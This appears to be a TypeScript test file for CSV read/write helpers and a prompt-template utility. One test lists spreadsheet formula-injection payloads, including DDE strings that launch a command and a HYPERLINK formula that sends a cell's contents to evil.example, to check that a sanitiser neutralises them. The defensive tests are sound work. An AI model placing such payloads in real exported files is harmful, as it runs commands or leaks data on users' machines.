import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { fillPrompt, promptVariables, type SavedPrompt, sortPrompts } from "./apps";
import { csvSafeCell, parseCsv, toCsv, toTsv } from "./csv";

describe("CSV", () => {
  it("reads quoted fields: commas, doubled quotes, line breaks inside quotes, CRLF, a byte order mark", () => {
    const text = '\ufeffName,Note\r\n"Ada, Countess","She said ""hi"""\r\n"two\nlines",x\n';
    expect(parseCsv(text)).toEqual([
      ["Name", "Note"],
      ["Ada, Countess", 'She said "hi"'],
      ["two\nlines", "x"],
    ]);
    expect(parseCsv("a,,c\n,\n")).toEqual([
      ["a", "", "c"],
      ["", ""],
    ]);
    expect(parseCsv("a\tb\nc\td", "\t")).toEqual([
      ["a", "b"],
      ["c", "d"],
    ]);
  });

  it("writes what it reads back, for any cells", () => {
    const cell = fc.string({ maxLength: 12 }).filter((s) => !s.includes("\r"));
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const width = rows[0]?.length ?? 2;
          const even = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ""));
          expect(parseCsv(toCsv(even))).toEqual(even.map((row) => row.map(csvSafeCell)));
        },
      ),
    );
    expect(toTsv([["a\tb", "c\nd"]])).toBe("a b\tc d");
  });

  it("neutralises cells a spreadsheet would run as formulas (OWASP): a quote in front, the field quoted", () => {
    const attacks = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?"&A2,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "=1",
      "-",
      "+",
    ];
    for (const cell of attacks) expect(csvSafeCell(cell)).toBe(`'${cell}`);
    expect(toCsv([["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A2)', "@SUM(A1)"]])).toBe(
      `"'=cmd|' /C calc'!A0","'=HYPERLINK(""http://x/?""&A2)","'@SUM(A1)"`,
    );
    expect(toCsv([["\t=1+1", "\r=2"]])).toBe(`"'\t=1+1","'\r=2"`);
  });

  it("keeps numbers numbers and other text as it is", () => {
    for (const cell of [
      "-3",
      "+1.5",
      "-.5",
      "2e-3",
      "-1E+6",
      "42",
      "0.25",
      "Total",
      "a=b",
      "x-1",
      " =1",
      "'=1",
      "",
    ])
      expect(csvSafeCell(cell)).toBe(cell);
    expect(toCsv([["-3", "+1.5", "Total", "-2.5e3"]])).toBe("-3,+1.5,Total,-2.5e3");
  });
});

describe("prompts", () => {
  it("finds {{variables}} once each and fills them; an empty value leaves the variable as written", () => {
    expect(promptVariables("{{a}} and {{ b }} and {{a}} but not {{}} or {{ two words }}")).toEqual([
      "a",
      "b",
    ]);
    expect(fillPrompt("Hi {{name}}, {{ day }}!", { name: "Ada", day: " " })).toBe("Hi Ada, {{ day }}!");
  });

  it("sorts favourites first, then newest", () => {
    const p = (id: string, timestamp: number, isFavorite: boolean): SavedPrompt => ({
      id,
      title: id,
      content: id,
      timestamp,
      isFavorite,
      lastResult: null,
    });
    expect(
      sortPrompts([p("old", 1, false), p("new", 3, false), p("fav-old", 0, true), p("fav-new", 2, true)]).map(
        (x) => x.id,
      ),
    ).toEqual(["fav-new", "fav-old", "new", "old"]);
  });
});
